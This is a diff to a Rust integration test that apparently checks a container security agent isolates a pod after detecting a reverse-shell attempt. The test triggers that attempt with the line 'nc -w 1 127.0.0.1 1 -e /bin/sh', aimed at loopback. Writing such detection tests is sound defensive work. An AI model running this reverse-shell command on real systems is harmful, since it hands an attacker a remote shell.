@@ -44,8 +44,11 @@ fn isolate_cuts_the_pod_to_loopback_and_keeps_it_running() {
     let (ok, out) = side.probe(&["tcp", &orch.ip, "8080", "iso-before"]);
     assert!(ok, "sidecar -> orchestrator before the attack: {out}");
 
-    // A reverse shell attempt from the agent container.
-    let _ = agent.sh("nc -w 1 127.0.0.1 1 -e /bin/sh");
+    // A reverse shell attempt from the agent container (exec'd directly: through `sh -c`, the
+    // lab's BusyBox shell runs applets as `/proc/self/exe`, whose process name is `exe`).
+    let _ = agent
+        .c
+        .exec(&["nc", "-w", "1", "127.0.0.1", "1", "-e", "/bin/sh"]);
 
     let start = Instant::now();
     let report: Value = loop {
@@ -59,7 +62,8 @@ fn isolate_cuts_the_pod_to_loopback_and_keeps_it_running() {
         }
         assert!(
             start.elapsed() < Duration::from_secs(90),
-            "no isolate response; agent log:\n{}",
+            "no isolate response; events:\n{}\nagent log:\n{}",
+            std::fs::read_to_string(lab.agent().events_path()).unwrap_or_default(),
             std::fs::read_to_string(lab.agent().log_path()).unwrap_or_default()
         );
         std::thread::sleep(Duration::from_millis(300));
@@ -90,14 +94,20 @@ fn isolate_cuts_the_pod_to_loopback_and_keeps_it_running() {
 
     // The pod is cut off: the sidecar cannot reach what its zone allowed a moment ago.
     let (ok, out) = side.probe(&["tcp", &orch.ip, "8080", "iso-after"]);
-    assert!(!ok, "the isolated pod still reached the orchestrator: {out}");
+    assert!(
+        !ok,
+        "the isolated pod still reached the orchestrator: {out}"
+    );
     assert!(
         lab.denials().iter().any(|e| e["reason"] == "isolated"),
         "no `isolated` denial reported"
     );
     // It runs on, under observation.
     let (ok, out) = agent.sh("echo alive");
-    assert!(ok && out.contains("alive"), "isolated container not running: {out}");
+    assert!(
+        ok && out.contains("alive"),
+        "isolated container not running: {out}"
+    );
     // Other pods keep their flows.
     let (ok, out) = other_side.probe(&["tcp", &orch.ip, "8080", "other-after"]);
     assert!(ok, "isolation leaked to another pod: {out}");
